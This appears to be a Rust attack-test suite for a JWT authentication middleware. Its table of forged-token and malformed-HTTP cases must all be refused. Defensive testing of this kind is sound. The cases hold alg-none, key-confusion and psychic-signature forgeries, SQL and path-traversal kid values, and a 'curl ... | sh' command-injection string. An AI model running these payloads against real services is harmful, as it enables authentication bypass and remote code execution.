//! Attack tests at the HTTP level (issue 7).
//!
//! One real hyper server on 127.0.0.1:0 serves an axum `Router`: a protected
//! route behind `JwtAuthLayer` (ES256 signing key, an RS256 verification key,
//! issuer, audience, 30 s leeway, revocation check on a `MemoryStore`) and the
//! refresh, verify and logout endpoints. A table of hand-crafted hostile
//! requests, drawn from RFC 8725, OWASP's JWT cheat sheet and jwt_tool's
//! playbook, goes to it over HTTP. Each must get its exact 4xx (for 401s the
//! RFC 6750 challenge and the JSON body with the exact reason), none a 5xx, none
//! a panic; after each one a valid token must still get 200. A local listener
//! stands in for the `jku` / `x5u` targets: nothing may connect to it.
//!
//! `cargo test --test attacks -- --nocapture` prints the table.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use axum::Router;
use axum::routing::get;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use bytes::Bytes;
use http::header::{AUTHORIZATION, CONTENT_TYPE, COOKIE, WWW_AUTHENTICATE};
use http::{HeaderMap, HeaderValue, Request, StatusCode};
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::client::legacy::connect::HttpConnector;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::service::TowerToHyperService;
use jsonwebtoken::EncodingKey;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tower_jwt_auth::axum::Authenticated;
use tower_jwt_auth::{
    Algorithm, Jwt, JwtAuthLayer, Key, MemoryStore, MemoryUsers, NoCustomClaims, SessionEndpoint,
    Sessions, TokenError, TokenKind, TokenPair, TokenStore,
};
use uuid::Uuid;

const ISS: &str = "https://auth.example.test";
const AUD: &str = "api";
const LEEWAY: u64 = 30;

const PROTECTED: &str = "/protected";
const REFRESH: &str = "/api/token/refresh/";
const VERIFY: &str = "/api/token/verify/";
const LOGOUT: &str = "/api/token/blacklist/";

const ES256_PEM: &[u8] = include_bytes!("keys/es256.pem");
const ES256_PUB: &[u8] = include_bytes!("keys/es256.pub.pem");
/// The attacker's own P-256 key (signs forged tokens, or is embedded as a `jwk`).
const ATTACKER_PEM: &[u8] = include_bytes!("keys/es256-b.pem");
const RS256_PEM: &[u8] = include_bytes!("keys/rs256.pem");
const RS256_PUB: &[u8] = include_bytes!("keys/rs256.pub.pem");

/// The order n of P-256: `r = s = n` is as "psychic" as `r = s = 0`.
const P256_ORDER: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";

type BoxError = Box<dyn std::error::Error + Send + Sync>;
type ReqBody = BoxBody<Bytes, BoxError>;
type Users = MemoryUsers<Uuid, String>;

use TokenKind::{Access, Refresh};

/// Panics anywhere in the process (server tasks included).
static PANICS: AtomicUsize = AtomicUsize::new(0);

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

/// `b64(header).b64(payload)`: the JWS signing input.
fn input(header: &[u8], payload: &[u8]) -> String {
    format!("{}.{}", b64(header), b64(payload))
}

/// A token with the given raw signature bytes (empty: an empty third part).
fn with_sig(header: &[u8], payload: &[u8], sig: &[u8]) -> String {
    format!("{}.{}", input(header, payload), b64(sig))
}

/// Signed with one of the crate's keys (`Key::sign`, raw `r‖s` for ECDSA).
fn signed(key: &Key, header: &[u8], payload: &[u8]) -> String {
    let i = input(header, payload);
    let sig = key.sign(i.as_bytes()).unwrap();
    format!("{i}.{}", b64(sig))
}

/// HMAC-SHA256 with any secret, even an empty one (jwt_tool's `/dev/null` trick).
fn hs256(secret: &[u8], header: &[u8], payload: &[u8]) -> String {
    let i = input(header, payload);
    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
    let tag = aws_lc_rs::hmac::sign(&key, i.as_bytes());
    format!("{i}.{}", b64(tag.as_ref()))
}

/// RS256 with the RSA private key, through `jsonwebtoken::crypto::sign`.
fn rs256(key: &EncodingKey, header: &[u8], payload: &[u8]) -> String {
    let i = input(header, payload);
    let sig = jsonwebtoken::crypto::sign(i.as_bytes(), key, Algorithm::RS256).unwrap();
    format!("{i}.{sig}")
}

/// `text` as UTF-16, little or big endian, with or without a byte order mark.
fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
    let units = bom
        .then_some(0xfeff_u16)
        .into_iter()
        .chain(text.encode_utf16());
    units
        .flat_map(|u| {
            if little {
                u.to_le_bytes()
            } else {
                u.to_be_bytes()
            }
        })
        .collect()
}

/// `base` with `changes` merged in (`null` removes a key).
fn merged(mut base: Value, changes: Value) -> Vec<u8> {
    let (Value::Object(map), Value::Object(changes)) = (&mut base, changes) else {
        panic!("objects")
    };
    for (k, v) in changes {
        if v.is_null() {
            map.remove(&k);
        } else {
            map.insert(k, v);
        }
    }
    serde_json::to_vec(&base).unwrap()
}

fn full(body: impl Into<Bytes>) -> ReqBody {
    Full::new(body.into()).map_err(|e| match e {}).boxed()
}

/// A request body of `n` chunks of 100 bytes with no length known in advance
/// (sent chunked).
struct Chunks(usize);

impl http_body::Body for Chunks {
    type Data = Bytes;
    type Error = BoxError;
    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<Bytes>, BoxError>>> {
        if self.0 == 0 {
            return std::task::Poll::Ready(None);
        }
        self.0 -= 1;
        let chunk = if self.0 == 0 { b'}' } else { b' ' };
        std::task::Poll::Ready(Some(Ok(http_body::Frame::data(Bytes::from(vec![
            chunk;
            100
        ])))))
    }
}

/// What goes on the wire: a request through hyper's client, or raw bytes for
/// what no well-behaved client would send.
enum Req {
    Http(Box<Request<ReqBody>>),
    Raw(Vec<u8>),
}

fn http(req: Request<ReqBody>) -> Req {
    Req::Http(Box::new(req))
}

/// What a case must get back.
#[derive(Clone, Copy, Debug)]
enum Want {
    /// 200: a control, proving the crafting (or the endpoint) works.
    Ok,
    /// 401, `error="invalid_token"` in the challenge, and this reason in the JSON body.
    Invalid(TokenError),
    /// 401 with a bare `Bearer realm="api"` challenge: no token was read (RFC 6750 §3.1).
    NoToken,
    /// 400 `invalid_request` from the crate.
    BadRequest,
    /// 413 from the crate.
    TooLarge,
    /// Refused by hyper before any service runs (431 or 400): any 4xx.
    Refused,
}

impl Want {
    fn label(self) -> String {
        match self {
            Want::Ok => "200".into(),
            Want::Invalid(e) => format!("401 {e:?}"),
            Want::NoToken => "401 (no token)".into(),
            Want::BadRequest => "400".into(),
            Want::TooLarge => "413".into(),
            Want::Refused => "4xx (hyper)".into(),
        }
    }
}

struct Case {
    name: &'static str,
    want: Want,
    /// Crafted right before it is sent, so the clock-based cases see a fresh `now`.
    make: Box<dyn Fn(&Ctx) -> Req>,
}

fn case(name: &'static str, want: Want, make: impl Fn(&Ctx) -> Req + 'static) -> Case {
    Case {
        name,
        want,
        make: Box::new(make),
    }
}

struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: Bytes,
}

/// Everything the hostile tokens are crafted from.
struct Ctx {
    addr: SocketAddr,
    /// The `jku` / `x5u` target.
    trap: SocketAddr,
    user: Uuid,
    /// The live session the crafted tokens name, so that only the defect refuses them.
    sid: Uuid,
    /// The control: its access token must get 200 after every case.
    valid: TokenPair,
    /// Spent by the refresh control, then replayed.
    spare: TokenPair,
    /// Logged out by the logout control.
    leaving: TokenPair,
    es: Key,
    attacker: Key,
    rsa: EncodingKey,
}

impl Ctx {
    fn claims(&self, kind: TokenKind, changes: Value) -> Vec<u8> {
        let now = now();
        let base = json!({
            "sub": self.user.to_string(),
            "token_type": kind.claim_value(),
            "jti": Uuid::new_v4().to_string(),
            "sid": self.sid.to_string(),
            "iat": now - 5,
            "exp": now + 300,
            "iss": ISS,
            "aud": AUD,
        });
        merged(base, changes)
    }

    fn header(&self, kind: TokenKind, changes: Value) -> Vec<u8> {
        merged(
            json!({"alg": "ES256", "typ": kind.header_typ(), "kid": "es"}),
            changes,
        )
    }

    /// An access token signed with the server's own key, header and claims changed.
    fn es_access(&self, header: Value, claims: Value) -> String {
        signed(
            &self.es,
            &self.header(Access, header),
            &self.claims(Access, claims),
        )
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    /// `GET /protected` with these `Authorization` header values (raw bytes).
    fn get_auth(&self, values: &[&[u8]]) -> Req {
        let mut b = Request::get(self.url(PROTECTED));
        for v in values {
            b = b.header(AUTHORIZATION, HeaderValue::from_bytes(v).unwrap());
        }
        http(b.body(full(Bytes::new())).unwrap())
    }

    fn bearer(&self, token: &str) -> Req {
        self.get_auth(&[format!("Bearer {token}").as_bytes()])
    }

    fn post(&self, path: &str, content_type: &str, body: impl Into<Bytes>) -> Req {
        http(
            Request::post(self.url(path))
                .header(CONTENT_TYPE, content_type)
                .body(full(body))
                .unwrap(),
        )
    }

    fn refresh(&self, token: &str) -> Req {
        let body = json!({ "refresh": token }).to_string();
        self.post(REFRESH, "application/json", body)
    }

    fn verify(&self, token: &str) -> Req {
        let body = json!({ "token": token }).to_string();
        self.post(VERIFY, "application/json", body)
    }

    fn logout(&self, token: &str) -> Req {
        let body = json!({ "refresh": token }).to_string();
        self.post(LOGOUT, "application/json", body)
    }

    /// A raw HTTP/1.1 request: `lines` between the request line and the blank line.
    fn raw(&self, request_line: &str, lines: &str, body: &str) -> Req {
        Req::Raw(
            format!(
                "{request_line}\r\nHost: {}\r\n{lines}Connection: close\r\n\r\n{body}",
                self.addr
            )
            .into_bytes(),
        )
    }

    /// An `alg: none` access token with an empty signature.
    fn none_token(&self) -> String {
        let h = self.header(Access, json!({"alg": "none"}));
        format!("{}.", input(&h, &self.claims(Access, json!({}))))
    }

    /// A nested JWT: the outer token's payload is the (valid) inner token, `cty: JWT`.
    fn nested(&self, outer_alg_none: bool) -> String {
        let inner = self.valid.access.as_bytes();
        if outer_alg_none {
            let h = self.header(Access, json!({"alg": "none", "cty": "JWT"}));
            format!("{}.", input(&h, inner))
        } else {
            signed(&self.es, &self.header(Access, json!({"cty": "JWT"})), inner)
        }
    }

    fn psychic(&self, kind: TokenKind, sig: &[u8]) -> String {
        with_sig(
            &self.header(kind, json!({})),
            &self.claims(kind, json!({})),
            sig,
        )
    }

    /// An access token whose payload is the claim set re-encoded as UTF-16.
    fn utf16_payload(&self, little: bool, bom: bool) -> String {
        let text = String::from_utf8(self.claims(Access, json!({}))).unwrap();
        signed(
            &self.es,
            &self.header(Access, json!({})),
            &utf16(&text, little, bom),
        )
    }

    /// The attacker's key, named by `jku` / `x5u` / `jwk`: forged claims.
    fn external(&self, kind: TokenKind, field: &str) -> String {
        let value = match field {
            "jku" => json!(format!("http://{}/.well-known/jwks.json", self.trap)),
            "x5u" => json!(format!("http://{}/cert.pem", self.trap)),
            "jwk" => serde_json::to_value(self.attacker.public_jwk().unwrap()).unwrap(),
            // A base64 DER "certificate" the crate must not even look at.
            _ => json!(["MIIBszCCAVmgAwIBAgIUQ2FzZQ=="]),
        };
        let mut h = json!({});
        h[field] = value;
        signed(
            &self.attacker,
            &self.header(kind, h),
            &self.claims(kind, json!({"sub": "admin"})),
        )
    }
}

async fn send(client: &Client<HttpConnector, ReqBody>, addr: SocketAddr, req: Req) -> Answer {
    match req {
        Req::Http(req) => {
            let res = tokio::time::timeout(Duration::from_secs(20), client.request(*req))
                .await
                .expect("no answer within 20 s")
                .expect("the connection failed: did the server panic?");
            let (parts, body) = res.into_parts();
            let body = body.collect().await.unwrap().to_bytes();
            Answer {
                status: parts.status,
                headers: parts.headers,
                body,
            }
        }
        Req::Raw(bytes) => raw(addr, bytes).await,
    }
}

/// Writes `bytes` while reading the answer (the server may answer before it has
/// read everything), until the server closes the connection.
async fn raw(addr: SocketAddr, bytes: Vec<u8>) -> Answer {
    let stream = TcpStream::connect(addr).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let writer = tokio::spawn(async move {
        // The server may close before it has read it all: a write error is fine.
        let _ = wr.write_all(&bytes).await;
        wr
    });
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    loop {
        match tokio::time::timeout(Duration::from_secs(20), rd.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => panic!("no answer within 20 s"),
        }
    }
    writer.abort();
    let text = String::from_utf8_lossy(&buf);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let mut lines = head.split("\r\n");
    let status = lines
        .next()
        .and_then(|l| l.split(' ').nth(1))
        .and_then(|s| s.parse::<u16>().ok())
        .and_then(|s| StatusCode::from_u16(s).ok())
        .unwrap_or_else(|| panic!("no HTTP answer: {text:?}"));
    let mut headers = HeaderMap::new();
    for line in lines {
        if let Some((k, v)) = line.split_once(':')
            && let (Ok(k), Ok(v)) = (
                http::HeaderName::from_bytes(k.trim().as_bytes()),
                HeaderValue::from_str(v.trim()),
            )
        {
            headers.append(k, v);
        }
    }
    Answer {
        status,
        headers,
        body: Bytes::from(body.to_owned()),
    }
}

/// What is wrong with `got` for `want`, if anything.
fn mismatch(want: Want, got: &Answer) -> Option<String> {
    let json: Option<Value> = serde_json::from_slice(&got.body).ok();
    let field = |k: &str| {
        json.as_ref()
            .and_then(|j| j.get(k))
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    let challenge = got
        .headers
        .get(WWW_AUTHENTICATE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let body = String::from_utf8_lossy(&got.body);
    let expect_status = |s: StatusCode| (got.status != s).then(|| format!("status {}", got.status));
    if got.status.is_server_error() {
        return Some(format!("a 5xx: {} {body}", got.status));
    }
    let error_body = |code: &str| -> Option<String> {
        if field("error").as_deref() != Some(code) || field("error_description").is_none() {
            return Some(format!(
                "body {body}, want error={code:?} and a description"
            ));
        }
        None
    };
    match want {
        Want::Ok => expect_status(StatusCode::OK),
        Want::Invalid(reason) => expect_status(StatusCode::UNAUTHORIZED)
            .or_else(|| {
                (!challenge.starts_with("Bearer realm=\"api\", error=\"invalid_token\""))
                    .then(|| format!("challenge {challenge:?}"))
            })
            .or_else(|| error_body("invalid_token"))
            .or_else(|| {
                let got = field("error_description").unwrap_or_default();
                (got != reason.to_string()).then(|| format!("reason {got:?}"))
            }),
        Want::NoToken => expect_status(StatusCode::UNAUTHORIZED)
            .or_else(|| {
                (challenge != "Bearer realm=\"api\"").then(|| format!("challenge {challenge:?}"))
            })
            .or_else(|| error_body("not_authenticated")),
        Want::BadRequest => {
            expect_status(StatusCode::BAD_REQUEST).or_else(|| error_body("invalid_request"))
        }
        Want::TooLarge => {
            expect_status(StatusCode::PAYLOAD_TOO_LARGE).or_else(|| error_body("invalid_request"))
        }
        Want::Refused => (!got.status.is_client_error()).then(|| format!("status {}", got.status)),
    }
}

/// The table. Every case but the controls (`Want::Ok`) is hostile.
fn cases() -> Vec<Case> {
    use TokenError as E;
    use Want::{BadRequest, Invalid, NoToken, Refused, TooLarge};
    let ok = Want::Ok;
    vec![
        // Controls: the crafting is right, both keys verify.
        case("control: crafted ES256 access token", ok, |c| {
            c.bearer(&c.es_access(json!({}), json!({})))
        }),
        case("control: crafted RS256 token (verification key)", ok, |c| {
            let h = c.header(Access, json!({"alg": "RS256", "kid": "rs"}));
            c.bearer(&rs256(&c.rsa, &h, &c.claims(Access, json!({}))))
        }),
        // Expiry edges with 30 s leeway (first: they are the clock-sensitive ones).
        case("exp = now - leeway - 1", Invalid(E::Expired), |c| {
            c.bearer(&c.es_access(json!({}), json!({"exp": now() - LEEWAY - 1})))
        }),
        case(
            "exp = now - leeway (dead at exp + leeway)",
            Invalid(E::Expired),
            |c| c.bearer(&c.es_access(json!({}), json!({"exp": now() - LEEWAY}))),
        ),
        case("control: exp = now - leeway + 5", ok, |c| {
            c.bearer(&c.es_access(json!({}), json!({"exp": now() - LEEWAY + 5})))
        }),
        case("nbf = now + leeway + 5", Invalid(E::NotYetValid), |c| {
            c.bearer(&c.es_access(json!({}), json!({"nbf": now() + LEEWAY + 5})))
        }),
        case("iat = now + leeway + 5", Invalid(E::IssuedInFuture), |c| {
            c.bearer(&c.es_access(json!({}), json!({"iat": now() + LEEWAY + 5})))
        }),
        case("no exp", Invalid(E::MissingExpiry), |c| {
            c.bearer(&c.es_access(json!({}), json!({"exp": null})))
        }),
        // alg none and null signatures.
        case("alg none, empty signature", Invalid(E::Malformed), |c| {
            c.bearer(&c.none_token())
        }),
        case("alg None, any signature", Invalid(E::Algorithm), |c| {
            let h = c.header(Access, json!({"alg": "None"}));
            c.bearer(&format!("{}.AAAA", input(&h, &c.claims(Access, json!({})))))
        }),
        case(
            "alg NONE, signed with the real key",
            Invalid(E::Algorithm),
            |c| c.bearer(&c.es_access(json!({"alg": "NONE"}), json!({}))),
        ),
        case(
            "no alg, signed with the real key",
            Invalid(E::Algorithm),
            |c| c.bearer(&c.es_access(json!({"alg": null}), json!({}))),
        ),
        case(
            "null signature: empty third part",
            Invalid(E::Malformed),
            |c| {
                let t = c.es_access(json!({}), json!({}));
                c.bearer(&format!("{}.", t.rsplit_once('.').unwrap().0))
            },
        ),
        case(
            "null signature: signature part dropped",
            Invalid(E::Malformed),
            |c| {
                let t = c.es_access(json!({}), json!({}));
                c.bearer(t.rsplit_once('.').unwrap().0)
            },
        ),
        // Key confusion: the public key as an HMAC secret.
        case(
            "HS256 keyed with the ES256 public PEM",
            Invalid(E::Algorithm),
            |c| {
                let h = c.header(Access, json!({"alg": "HS256"}));
                c.bearer(&hs256(ES256_PUB, &h, &c.claims(Access, json!({}))))
            },
        ),
        case(
            "HS256 keyed with the RS256 public PEM",
            Invalid(E::Algorithm),
            |c| {
                let h = c.header(Access, json!({"alg": "HS256", "kid": "rs"}));
                c.bearer(&hs256(RS256_PUB, &h, &c.claims(Access, json!({}))))
            },
        ),
        case(
            "RS256 header, MAC over the public PEM",
            Invalid(E::Signature),
            |c| {
                let h = c.header(Access, json!({"alg": "RS256", "kid": "rs"}));
                c.bearer(&hs256(RS256_PUB, &h, &c.claims(Access, json!({}))))
            },
        ),
        case(
            "RS256 signature under the ES256 kid",
            Invalid(E::Algorithm),
            |c| {
                let h = c.header(Access, json!({"alg": "RS256"}));
                c.bearer(&rs256(&c.rsa, &h, &c.claims(Access, json!({}))))
            },
        ),
        case(
            "signed by the attacker's key under kid es",
            Invalid(E::Signature),
            |c| {
                let t = signed(
                    &c.attacker,
                    &c.header(Access, json!({})),
                    &c.claims(Access, json!({})),
                );
                c.bearer(&t)
            },
        ),
        // Psychic signatures (CVE-2022-21449).
        case("psychic ES256: r = s = 0", Invalid(E::Signature), |c| {
            c.bearer(&c.psychic(Access, &[0; 64]))
        }),
        case("psychic ES256: r = s = n", Invalid(E::Signature), |c| {
            let n = unhex(P256_ORDER);
            c.bearer(&c.psychic(Access, &[n.clone(), n].concat()))
        }),
        case("psychic ES256: DER r = s = 0", Invalid(E::Signature), |c| {
            c.bearer(&c.psychic(Access, &unhex("3006020100020100")))
        }),
        // kid injection.
        case(
            "kid ../../dev/null, HS256 empty secret",
            Invalid(E::UnknownKey),
            |c| {
                let h = c.header(
                    Access,
                    json!({"alg": "HS256", "kid": "../../../../../../dev/null"}),
                );
                c.bearer(&hs256(b"", &h, &c.claims(Access, json!({}))))
            },
        ),
        case(
            "kid ../es, signed with the real key",
            Invalid(E::UnknownKey),
            |c| c.bearer(&c.es_access(json!({"kid": "../es"}), json!({}))),
        ),
        case("kid SQL UNION SELECT, HS256", Invalid(E::UnknownKey), |c| {
            let kid = "x' UNION SELECT 'attacker-secret-attacker-secret!!'-- ";
            let h = c.header(Access, json!({"alg": "HS256", "kid": kid}));
            let secret = b"attacker-secret-attacker-secret!!";
            c.bearer(&hs256(secret, &h, &c.claims(Access, json!({}))))
        }),
        case("kid es' OR '1'='1, real key", Invalid(E::UnknownKey), |c| {
            c.bearer(&c.es_access(json!({"kid": "es' OR '1'='1"}), json!({})))
        }),
        case("kid command injection", Invalid(E::UnknownKey), |c| {
            let kid = "es|curl http://127.0.0.1:1/x|sh";
            c.bearer(&c.es_access(json!({"kid": kid}), json!({})))
        }),
        case("kid with a NUL byte", Invalid(E::UnknownKey), |c| {
            c.bearer(&c.es_access(json!({"kid": "es\u{0}"}), json!({})))
        }),
        case("no kid", Invalid(E::UnknownKey), |c| {
            c.bearer(&c.es_access(json!({"kid": null}), json!({})))
        }),
        // Keys named by the token.
        case("jku at a local listener", Invalid(E::ExternalKey), |c| {
            c.bearer(&c.external(Access, "jku"))
        }),
        case("x5u at a local listener", Invalid(E::ExternalKey), |c| {
            c.bearer(&c.external(Access, "x5u"))
        }),
        case(
            "embedded jwk (attacker's key)",
            Invalid(E::ExternalKey),
            |c| c.bearer(&c.external(Access, "jwk")),
        ),
        case("embedded x5c chain", Invalid(E::ExternalKey), |c| {
            c.bearer(&c.external(Access, "x5c"))
        }),
        case("crit [exp]", Invalid(E::Critical), |c| {
            c.bearer(&c.es_access(json!({"crit": ["exp"]}), json!({})))
        }),
        case("crit []", Invalid(E::Critical), |c| {
            c.bearer(&c.es_access(json!({"crit": []}), json!({})))
        }),
        // Nested JWT (cty: JWT): the payload is a valid token, not a claim set.
        case("nested JWT, outer signed", Invalid(E::Json), |c| {
            c.bearer(&c.nested(false))
        }),
        case("nested JWT, outer alg none", Invalid(E::Malformed), |c| {
            c.bearer(&c.nested(true))
        }),
        // Type confusion, access side.
        case(
            "refresh token as access token",
            Invalid(E::WrongType),
            |c| c.bearer(&c.valid.refresh),
        ),
        case(
            "typ at+jwt, token_type refresh",
            Invalid(E::WrongType),
            |c| c.bearer(&c.es_access(json!({}), json!({"token_type": "refresh"}))),
        ),
        case("typ JWT (untyped)", Invalid(E::WrongType), |c| {
            c.bearer(&c.es_access(json!({"typ": "JWT"}), json!({})))
        }),
        // Audience and issuer relay.
        case("audience relay: aud billing", Invalid(E::Audience), |c| {
            c.bearer(&c.es_access(json!({}), json!({"aud": "billing"})))
        }),
        case(
            "audience relay: aud [billing, reports]",
            Invalid(E::Audience),
            |c| c.bearer(&c.es_access(json!({}), json!({"aud": ["billing", "reports"]}))),
        ),
        case("no aud", Invalid(E::Audience), |c| {
            c.bearer(&c.es_access(json!({}), json!({"aud": null})))
        }),
        case("issuer relay: another issuer", Invalid(E::Issuer), |c| {
            c.bearer(&c.es_access(json!({}), json!({"iss": "https://idp.other.test"})))
        }),
        case("no iss", Invalid(E::Issuer), |c| {
            c.bearer(&c.es_access(json!({}), json!({"iss": null})))
        }),
        // UTF-16 and BOMs.
        case("UTF-16LE payload with BOM", Invalid(E::Json), |c| {
            c.bearer(&c.utf16_payload(true, true))
        }),
        case("UTF-16LE payload without BOM", Invalid(E::Json), |c| {
            c.bearer(&c.utf16_payload(true, false))
        }),
        case("UTF-16BE payload with BOM", Invalid(E::Json), |c| {
            c.bearer(&c.utf16_payload(false, true))
        }),
        case("UTF-16BE payload without BOM", Invalid(E::Json), |c| {
            c.bearer(&c.utf16_payload(false, false))
        }),
        case("UTF-8 BOM before the payload", Invalid(E::Json), |c| {
            let payload = [&b"\xef\xbb\xbf"[..], &c.claims(Access, json!({}))].concat();
            c.bearer(&signed(&c.es, &c.header(Access, json!({})), &payload))
        }),
        case("UTF-16LE header", Invalid(E::Json), |c| {
            let h = String::from_utf8(c.header(Access, json!({}))).unwrap();
            let t = signed(&c.es, &utf16(&h, true, false), &c.claims(Access, json!({})));
            c.bearer(&t)
        }),
        // Oversized tokens and headers.
        case("signed token over 8 KiB", Invalid(E::TooLarge), |c| {
            let pad = "x".repeat(9 * 1024);
            c.bearer(&c.es_access(json!({}), json!({"pad": pad})))
        }),
        case("64 KiB of garbage as a token", Invalid(E::TooLarge), |c| {
            c.bearer(&"a".repeat(64 * 1024))
        }),
        case("512 KiB header (hyper's limit)", Refused, |c| {
            let pad = "a".repeat(512 * 1024);
            let lines = format!(
                "Authorization: Bearer {}\r\nX-Padding: {pad}\r\n",
                c.valid.access
            );
            c.raw(&format!("GET {PROTECTED} HTTP/1.1"), &lines, "")
        }),
        case("200 headers", Refused, |c| {
            let mut lines = format!("Authorization: Bearer {}\r\n", c.valid.access);
            for i in 0..200 {
                lines.push_str(&format!("X-Filler-{i}: {i}\r\n"));
            }
            c.raw(&format!("GET {PROTECTED} HTTP/1.1"), &lines, "")
        }),
        // Header smuggling.
        case("two Authorization headers, both valid", BadRequest, |c| {
            let v = format!("Bearer {}", c.valid.access);
            c.get_auth(&[v.as_bytes(), v.as_bytes()])
        }),
        case("two Authorization headers, forged first", BadRequest, |c| {
            let forged = format!("Bearer {}", c.none_token());
            let v = format!("Bearer {}", c.valid.access);
            c.get_auth(&[forged.as_bytes(), v.as_bytes()])
        }),
        case(
            "two Authorization headers, Bearer and Basic",
            BadRequest,
            |c| {
                let v = format!("Bearer {}", c.valid.access);
                c.get_auth(&[v.as_bytes(), b"Basic YWRtaW46YWRtaW4="])
            },
        ),
        case("two tokens in one header, comma-joined", BadRequest, |c| {
            let v = format!("Bearer {}, Bearer {}", c.none_token(), c.valid.access);
            c.get_auth(&[v.as_bytes()])
        }),
        case("Bearer with no token", BadRequest, |c| {
            c.get_auth(&[b"Bearer "])
        }),
        case("Bearer token with trailing junk", BadRequest, |c| {
            c.bearer(&format!("{} admin", c.valid.access))
        }),
        case("non-ASCII bytes in Authorization", BadRequest, |c| {
            let v = [b"Bearer \xc3\xa9".as_slice(), c.valid.access.as_bytes()].concat();
            c.get_auth(&[&v])
        }),
        case("obs-fold continuation line", Refused, |c| {
            let lines = format!(
                "Authorization: Bearer {}\r\n\t{}\r\n",
                c.none_token(),
                c.valid.access
            );
            c.raw(&format!("GET {PROTECTED} HTTP/1.1"), &lines, "")
        }),
        case("space before the colon", Refused, |c| {
            let lines = format!("Authorization : Bearer {}\r\n", c.valid.access);
            c.raw(&format!("GET {PROTECTED} HTTP/1.1"), &lines, "")
        }),
        case("NUL byte in Authorization", Refused, |c| {
            let lines = format!("Authorization: Bearer {}\0x\r\n", c.valid.access);
            c.raw(&format!("GET {PROTECTED} HTTP/1.1"), &lines, "")
        }),
        // Tokens where they are never read.
        case("token in the query string", NoToken, |c| {
            let url = c.url(&format!("{PROTECTED}?access_token={}", c.valid.access));
            http(Request::get(url).body(full(Bytes::new())).unwrap())
        }),
        case("valid token under the Basic scheme", NoToken, |c| {
            c.get_auth(&[format!("Basic {}", c.valid.access).as_bytes()])
        }),
        case("token in a cookie", NoToken, |c| {
            let req = Request::get(c.url(PROTECTED))
                .header(COOKIE, format!("access_token={}", c.valid.access))
                .body(full(Bytes::new()))
                .unwrap();
            http(req)
        }),
        // The refresh endpoint: rotation, replay, type confusion, forgeries.
        case("control: refresh rotates", ok, |c| {
            c.refresh(&c.spare.refresh)
        }),
        case("refresh replay (reuse)", Invalid(E::Reused), |c| {
            c.refresh(&c.spare.refresh)
        }),
        case(
            "access token of the reused session",
            Invalid(E::Revoked),
            |c| c.bearer(&c.spare.access),
        ),
        case(
            "access token at the refresh endpoint",
            Invalid(E::WrongType),
            |c| c.refresh(&c.valid.access),
        ),
        case(
            "refresh: typ refresh+jwt, token_type access",
            Invalid(E::WrongType),
            |c| {
                let h = c.header(Refresh, json!({}));
                c.refresh(&signed(
                    &c.es,
                    &h,
                    &c.claims(Refresh, json!({"token_type": "access"})),
                ))
            },
        ),
        case("refresh: alg none", Invalid(E::Malformed), |c| {
            let h = c.header(Refresh, json!({"alg": "none"}));
            c.refresh(&format!("{}.", input(&h, &c.claims(Refresh, json!({})))))
        }),
        case(
            "refresh: HS256 keyed with the public PEM",
            Invalid(E::Algorithm),
            |c| {
                let h = c.header(Refresh, json!({"alg": "HS256"}));
                c.refresh(&hs256(ES256_PUB, &h, &c.claims(Refresh, json!({}))))
            },
        ),
        case("refresh: psychic r = s = 0", Invalid(E::Signature), |c| {
            c.refresh(&c.psychic(Refresh, &[0; 64]))
        }),
        case("refresh: audience relay", Invalid(E::Audience), |c| {
            let h = c.header(Refresh, json!({}));
            c.refresh(&signed(
                &c.es,
                &h,
                &c.claims(Refresh, json!({"aud": "billing"})),
            ))
        }),
        case("refresh: issuer relay", Invalid(E::Issuer), |c| {
            let h = c.header(Refresh, json!({}));
            let claims = c.claims(Refresh, json!({"iss": "https://idp.other.test"}));
            c.refresh(&signed(&c.es, &h, &claims))
        }),
        case(
            "refresh: jku at a local listener",
            Invalid(E::ExternalKey),
            |c| c.refresh(&c.external(Refresh, "jku")),
        ),
        case("refresh: 17 KiB body", TooLarge, |c| {
            c.post(REFRESH, "application/json", vec![b' '; 17 * 1024])
        }),
        case("refresh: 20 KiB chunked body", TooLarge, |c| {
            let req = Request::post(c.url(REFRESH))
                .header(CONTENT_TYPE, "application/json")
                .body(Chunks(200).boxed())
                .unwrap();
            http(req)
        }),
        case("refresh: Content-Length 99999999999", TooLarge, |c| {
            let lines = "Content-Type: application/json\r\nContent-Length: 99999999999\r\n";
            c.raw(
                &format!("POST {REFRESH} HTTP/1.1"),
                lines,
                "{\"refresh\":\"x\"}",
            )
        }),
        case("refresh: two different Content-Lengths", Refused, |c| {
            let lines =
                "Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n";
            c.raw(&format!("POST {REFRESH} HTTP/1.1"), lines, "{}")
        }),
        case("refresh: UTF-16LE JSON body", BadRequest, |c| {
